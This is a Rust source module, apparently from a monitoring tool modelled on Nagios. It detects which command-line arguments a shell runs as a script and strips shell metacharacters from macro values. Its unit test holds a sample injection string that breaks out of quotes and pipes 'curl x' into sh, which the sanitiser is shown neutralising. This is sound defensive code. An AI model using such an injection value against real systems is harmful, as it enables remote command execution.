//! What of a command line a shell reads as a script.
//!
//! Arguments reach a program as they are; but when it is a shell and the argument is its script, a
//! value in it could be run. Nagios takes letters out of outputs (`illegal_macro_output_chars`);
//! here those are taken out of every value that does not come from the configuration of commands.

use std::ops::Range;

/// Programs that read a script after `-c` (POSIX, XCU `sh`).
const SHELLS: [&str; 8] = ["sh", "bash", "dash", "ash", "ksh", "mksh", "zsh", "fish"];
/// Programs that hand what follows `-c` to a shell, wherever it stands among their arguments.
const SHELL_STARTERS: [&str; 2] = ["su", "runuser"];
/// Letters that a shell does not take for themselves: those of Nagios' sample configuration, and
/// those that end or group commands, quote, or begin a comment.
const MEANT_FOR_SHELLS: &str = "`~$&|'\"<>;()\\#";

/// Returns which arguments a shell reads as a script; empty when none does.
///
/// What `ssh` is given after its host is read by the shell there: that is told as all of its
/// arguments.
pub fn read_by_shell(argv: &[String]) -> Range<usize> {
    for (at, word) in argv.iter().enumerate() {
        let program = word.rsplit('/').next().unwrap_or_default();
        let is_starter = SHELL_STARTERS.contains(&program);
        if program == "ssh" && argv.len() > at + 2 {
            return at + 1..argv.len();
        }
        if (is_starter || SHELLS.contains(&program))
            && let Some(script) = script_after(&argv[at + 1..], is_starter)
        {
            return at + 1 + script..at + 2 + script;
        }
    }
    0..0
}

/// Returns the index of the script among a shell's arguments.
fn script_after(arguments: &[String], is_anywhere: bool) -> Option<usize> {
    let mut is_script_next = false;
    let mut is_value_next = false;
    for (index, argument) in arguments.iter().enumerate() {
        let option = argument.strip_prefix(['-', '+']).filter(|letters| !letters.is_empty());
        if std::mem::take(&mut is_value_next) {
            continue;
        }
        match option {
            Some(letters) if !letters.starts_with('-') => {
                is_script_next |= letters.contains('c');
                // `bash -o pipefail -c SCRIPT`.
                is_value_next = letters.ends_with(['o', 'O']);
            }
            Some(long) => is_script_next |= is_anywhere && long == "-command",
            None if is_script_next => return Some(index),
            None if is_anywhere => {}
            None => return None,
        }
    }
    None
}

/// Takes out of a value what a shell would not take for itself; `$USERn$` stays as it is.
pub(super) fn harmless(name: &str, value: String) -> String {
    if name.starts_with("USER") {
        return value;
    }
    let letters = value.chars().filter(|letter| !MEANT_FOR_SHELLS.contains(*letter));
    letters.map(|letter| if letter.is_control() { ' ' } else { letter }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(line: &str) -> Range<usize> {
        read_by_shell(&line.split(' ').map(str::to_owned).collect::<Vec<_>>())
    }

    #[test]
    fn the_script_of_a_shell_is_found() {
        for (line, range) in [
            ("sh -c SCRIPT name", 2..3),
            ("/bin/bash -ec SCRIPT", 2..3),
            ("/usr/bin/env LANG=C bash -o pipefail -c SCRIPT", 6..7),
            ("timeout 5 dash -e -c SCRIPT", 5..6),
            ("su nagios -c SCRIPT", 3..4),
            ("ssh web1 check_x ARG", 1..4),
            ("ssh web1", 0..0),
            ("bash /usr/local/bin/handler -c x", 0..0),
            ("/usr/lib/nagios/plugins/check_x -c 5", 0..0),
            ("sh", 0..0),
        ] {
            assert_eq!(found(line), range, "{line}");
        }
    }

    #[test]
    fn a_value_loses_what_a_shell_would_run() {
        let evil = "\"; curl x|sh; `a` $(b) '\nc # d\\";
        let left = harmless("SERVICEOUTPUT", evil.to_owned());
        assert_eq!(left, " curl xsh a b  c  d");
        assert_eq!(harmless("USER1", "/a b;".to_owned()), "/a b;");
    }
}
